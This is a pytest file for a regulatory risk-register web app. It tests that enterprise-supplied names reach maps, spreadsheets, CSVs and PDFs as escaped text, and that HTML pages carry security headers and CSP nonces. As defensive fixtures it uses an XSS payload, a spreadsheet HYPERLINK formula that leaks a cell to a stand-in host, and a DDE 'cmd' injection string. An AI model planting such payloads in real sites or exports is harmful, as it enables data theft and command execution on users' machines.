"""Issue #19, item 1 through the API: what an enterprise user writes into its own register reaches the
regulator's map, workbook and PDF as text, never as markup, a formula or mathtext; and every response has
the security headers, every HTML page a Content-Security-Policy whose nonce is on each of its scripts.
(tests/maps/test_stored_xss.py does the same in Chromium, hovering every feature of every map.)"""

from __future__ import annotations

import io
import json
import re
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from api.security_headers import COMMON_HEADERS, add_nonce
from tests.api.builders import (
    ENTERPRISES,
    QUANGANG,
    QUANGANG_2,
    RISK_UNITS,
    created,
    enterprise_feature,
    if_match,
    ok,
    risk_unit_feature,
)

COUNTY = "350505"
PAYLOAD = 'x<img src=x onerror="window.__xss=1">"><script>window.__xss=2</script>'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"点击")'
MATHTEXT = r"泉港$\frac{$储运"  # broken mathtext: matplotlib fails the whole figure if it reads it as maths
MATHS = "储罐$x^{2}$区"  # good mathtext: it would be set in DejaVu italics as a formula


def _script_tags(page: str) -> list[str]:
    return re.findall(r"<script\b[^>]*>", page, flags=re.IGNORECASE)


def _nonce(response: httpx.Response) -> str:
    policy = response.headers["content-security-policy"]
    found = re.search(r"script-src 'self' 'nonce-([A-Za-z0-9_-]+)'", policy)
    assert found, policy
    return found.group(1)


def _assert_common_headers(response: httpx.Response) -> None:
    for name, value in COMMON_HEADERS.items():
        assert response.headers.get(name) == value, (response.request.url, name, response.headers)


@pytest.fixture
def attacked(client: Any, client_as: Callable[..., Any]) -> dict[str, Any]:
    """Two plants 450 m apart (one joint-prevention cluster); the first one's own user writes payloads."""
    ids = []
    for n, at in ((1, QUANGANG), (2, QUANGANG_2)):
        eid = created(client.post(ENTERPRISES, json=enterprise_feature(n, at=at)))["id"]
        created(client.post(RISK_UNITS, json=risk_unit_feature(eid, at=at, level=n)))
        ids.append(eid)
    attacker = client_as("enterprise", enterprise_id=ids[0])
    return {"attacker": attacker, "regulator": client_as("regulator", adcodes=(COUNTY,)), "ids": ids}


def _write(attacker: Any, enterprise_id: int, **props: Any) -> None:
    url = f"{ENTERPRISES}/{enterprise_id}"
    ok(attacker.patch(url, json={"properties": props}, headers=if_match(attacker, url)))


def test_a_name_written_by_an_enterprise_reaches_the_joint_prevention_map_as_text(
    attacked: dict[str, Any],
) -> None:
    _write(attacked["attacker"], attacked["ids"][0], name=PAYLOAD, business_type=PAYLOAD)
    # The second plant is 5.4 km away: a cluster needs both within the distance.
    response = attacked["regulator"].get(
        "/maps/joint-prevention", params={"adcode": COUNTY, "distance_m": 8000}
    )
    assert response.status_code == 200, response.text
    # folium writes the features as JSON in a script, with < > & as \\u escapes: read it back as the
    # browser's tooltip and popup code will, and look at the values they put into HTML.
    page = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), response.text)
    assert "<img src=x" not in page
    assert "<script>window.__xss" not in page
    escaped = "x&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;&quot;&gt;&lt;script&gt;"
    assert page.count(escaped) >= 3  # the member's name, its business type, the other's "inspected by"


def test_a_register_workbook_and_pdf_show_formulas_and_dollars_as_text(attacked: dict[str, Any]) -> None:
    import openpyxl

    attacker, eid = attacked["attacker"], attacked["ids"][0]
    _write(attacker, eid, name=FORMULA, address=MATHTEXT, contact_person="@SUM(1+1)")
    created(
        attacker.post(
            RISK_UNITS,
            json=risk_unit_feature(
                eid, at=QUANGANG, name="+cmd|' /C calc'!A0", control_measures=MATHTEXT, hazards=MATHS
            ),
        )
    )
    for who in ("attacker", "regulator"):
        response = attacked[who].get(f"/api/v1/exports/enterprise-register/{eid}.xlsx")
        assert response.status_code == 200, response.text
        # The name is in the file name too: quoted, it must not end the parameter early.
        disposition = response.headers["content-disposition"]
        assert re.fullmatch(r"attachment; filename=\"[^\"\\]*\"; filename\*=UTF-8''\S+", disposition), (
            disposition
        )
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
        texts = [str(c.value) for c in cells]
        assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
        assert f"'{FORMULA} 安全风险分级管控清单（一企一册）" in texts  # the title too
        assert "'@SUM(1+1)" in texts
        assert "'+cmd|' /C calc'!A0" in texts

        response = attacked[who].get(f"/api/v1/exports/enterprise-register/{eid}.pdf")
        assert response.status_code == 200, response.text
        assert response.content.startswith(b"%PDF")
        # Every text is set in the CJK font as written: no formula, so no DejaVu (mathtext's font) in it.
        fonts = set(re.findall(rb"/BaseFont\s*/[A-Z]{6}\+([A-Za-z0-9-]+)", response.content))
        assert fonts
        assert all(f.startswith(b"NotoSansCJK") for f in fonts), fonts


def test_the_inspection_plan_shows_a_formula_name_as_text(attacked: dict[str, Any]) -> None:
    import csv

    import openpyxl

    _write(attacked["attacker"], attacked["ids"][0], name=FORMULA)
    params = {"adcode": COUNTY, "period": "2026", "seed": 3}
    for part in ("random", "self"):
        response = attacked["regulator"].get(
            "/api/v1/analysis/inspection-plan", params={**params, "format": "csv", "part": part}
        )
        assert response.status_code == 200, response.text
        cells = [v for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for v in row]
        assert f"'{FORMULA}" in cells, part
        assert not [v for v in cells if v.startswith(("=", "+", "@"))]
    response = attacked["regulator"].get(
        "/api/v1/analysis/inspection-plan", params={**params, "format": "xlsx"}
    )
    assert response.status_code == 200, response.text
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert f"'{FORMULA}" in [c.value for c in cells]


def test_html_pages_carry_a_csp_whose_nonce_is_on_every_script(attacked: dict[str, Any]) -> None:
    regulator = attacked["regulator"]
    pages = [
        regulator.get("/maps/joint-prevention", params={"adcode": COUNTY}),
        regulator.get("/maps/four-color", params={"adcode": COUNTY, "zones": "grid", "cell_m": 1000}),
        regulator.get("/maps/safety-distance", params={"adcode": COUNTY}),
        regulator.get("/docs"),
    ]
    nonces = set()
    for response in pages:
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/html")
        _assert_common_headers(response)
        policy = response.headers["content-security-policy"]
        for directive in (
            "default-src 'self'",
            "object-src 'none'",
            "frame-ancestors 'none'",
            "base-uri 'self'",
        ):
            assert directive in policy
        assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        nonce = _nonce(response)
        nonces.add(nonce)
        tags = _script_tags(response.text)
        assert tags
        for tag in tags:
            if 'type="application/json"' in tag:
                assert "nonce=" not in tag  # data, not a script
            else:
                assert f'nonce="{nonce}"' in tag, tag
        # the declared length is of the bytes sent (gzipped ones when Content-Encoding says so)
        assert int(response.headers["content-length"]) == response.num_bytes_downloaded
    assert len(nonces) == len(pages)  # a fresh nonce for every response


def test_other_responses_carry_the_headers_without_a_csp(client: Any, client_as: Callable[..., Any]) -> None:
    public = client_as("public")
    responses = [
        client.get("/api/v1/health"),
        client.get(ENTERPRISES),
        public.get(ENTERPRISES + "/1"),  # 401
        client.get(ENTERPRISES + "/999999"),  # 404
        client.get("/openapi.json"),
        client.get("/static/vendor/leaflet/dist/leaflet.js"),
        client.get("/api/v1/health", params={"x": "\x00"}),  # 422 from the NUL guard
    ]
    for response in responses:
        _assert_common_headers(response)
        assert "content-security-policy" not in response.headers
    assert [r.status_code for r in responses] == [200, 200, 401, 404, 200, 200, 422]


def test_a_head_request_and_a_streamed_page_are_answered_whole() -> None:
    from fastapi import FastAPI
    from fastapi.responses import HTMLResponse, StreamingResponse
    from fastapi.testclient import TestClient

    from api.security_headers import SecurityHeaders

    app = FastAPI()
    app.add_middleware(SecurityHeaders)

    @app.api_route("/page", methods=["GET", "HEAD"])
    def page() -> HTMLResponse:
        return HTMLResponse("<p>x</p><script>1</script>")

    @app.get("/stream")
    def stream() -> StreamingResponse:
        parts = (b"<html><script", b">2</script><scr", b"ipt src='/a.js'></script></html>")
        return StreamingResponse(iter(parts), media_type="text/html")

    with TestClient(app) as c:
        streamed = c.get("/stream")
        nonce = _nonce(streamed)
        assert streamed.text == (
            f'<html><script nonce="{nonce}">2</script><script nonce="{nonce}" src=\'/a.js\'></script></html>'
        )
        head = c.head("/page")
        assert head.status_code == 200
        assert head.content == b""
        assert "content-security-policy" in head.headers
        _assert_common_headers(head)


def test_add_nonce_leaves_data_and_end_tags_alone() -> None:
    body = (
        b'<script>a()</script><script type="application/json" id="d">{"a":"\\u003c/script"}</script>'
        b"<SCRIPT src=/x.js></SCRIPT><scripts></scripts><script\ntype='module'>b()</script>"
    )
    assert add_nonce(body, "N") == (
        b'<script nonce="N">a()</script><script type="application/json" id="d">{"a":"\\u003c/script"}</script>'
        b'<script nonce="N" src=/x.js></SCRIPT><scripts></scripts><script nonce="N"\ntype=\'module\'>b()</script>'
    )
    assert json.loads('{"a":"\\u003c"}') == {"a": "<"}
